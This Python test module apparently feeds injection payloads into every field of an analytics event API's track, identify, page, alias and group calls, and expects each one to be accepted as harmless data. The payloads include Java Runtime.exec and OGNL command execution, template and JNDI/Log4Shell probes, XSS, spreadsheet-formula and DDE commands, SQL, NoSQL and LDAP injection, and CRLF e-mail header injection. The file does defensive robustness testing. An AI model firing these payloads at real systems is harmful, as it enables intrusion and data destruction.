"""Payloads 80 to 86, 89 and 92: what some reader, somewhere, would run."""

from tests.messages import a_track_call
from tests.payloads.nasty_texts import NASTY_TEXTS
from tests.payloads.payload import Sent, a_message, identify, payload, properties, track, users

UNOMI = 'script::Runtime r = Runtime.getRuntime(); r.exec("touch /tmp/x");'
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__.__mro__}",
    "%n%s",
    "<%= 7*7 %>",
    "{% debug %}",
    "${jndi:ldap://x/a}",
    "*{7*7}",
)
HTML = ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "javascript:alert(1)", '"><svg/onload=alert(1)>')
CELLS = ('=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1")
QUERIES = ("' OR 1=1--", '{"$gt":""}', "'; DROP TABLE events;--", "1' UNION SELECT 1", "*)(uid=*))(|(uid=*", "admin'/*")


def everywhere(text: str) -> tuple[Sent, ...]:
    """Send a text in every field that holds one, but the name of the event."""
    inner = {"a": text, "b": [text, {"c": text}], text: 1, f"x {text}": text}
    calls = (
        a_track_call(messageId=None, properties=inner, context={**inner, "page": {"title": text, "path": text}}),
        {"type": "identify", "userId": text, "anonymousId": "v", "messageId": text, "traits": {**inner, "email": text}},
        {
            "type": "page",
            "anonymousId": f"v {text}",
            "name": text,
            "category": text,
            "messageId": f"m {text}",
            "integrations": inner,
        },
        {"type": "alias", "userId": "u", "previousId": f"p {text}", "timestamp": text, "sentAt": text},
        {"type": "group", "anonymousId": "v", "groupId": f"g {text}"[:500], "traits": inner},
    )
    return tuple(map(a_message, calls))


def data(*texts: str) -> tuple[Sent, ...]:
    return (
        *properties(*({"label": text, text: 1, "list": [text]} for text in texts)),
        identify(traits={"plan": texts[0]}),
    )


INJECTION = (
    payload(
        80,
        "script of Unomi's, as text and in a list",
        "accept",
        *data(UNOMI),
        *properties({"a": [UNOMI]}),
        track(event="script::x"),
    ),
    payload(81, "OGNL", "accept", *data("(#a=@java.lang.Runtime@getRuntime()).exec('x')", "%{#context['x']}")),
    payload(82, "templates and format strings", "accept", *data(*TEMPLATES), *users(*TEMPLATES)),
    payload(
        83,
        "HTML in URL, title, trait",
        "accept",
        *data(*HTML),
        *(track(context={"page": {"title": text, "url": text}}) for text in HTML),
    ),
    payload(84, "formulas of spreadsheets", "accept", *data(*CELLS), *users(*CELLS[:4])),
    payload(
        85,
        "conditions of query languages",
        "accept",
        *data(*QUERIES),
        *users(*QUERIES),
        *properties({"$where": "1", "a": {"$gt": ""}}),
    ),
    payload(
        86, "headers in an e-mail address", "accept", identify(traits={"email": "a@example.com\r\nBcc: b@example.com"})
    ),
    payload(
        89,
        "JSONPath and filters as values",
        "accept",
        *data("$..[?(@.price<10)]", "$.store.book[*]", "//user[@id='1']"),
    ),
    payload(
        92,
        f"{len(NASTY_TEXTS)} texts that broke somebody's software, in every field",
        "accept",
        *(sent for text in NASTY_TEXTS for sent in everywhere(text)),
    ),
)
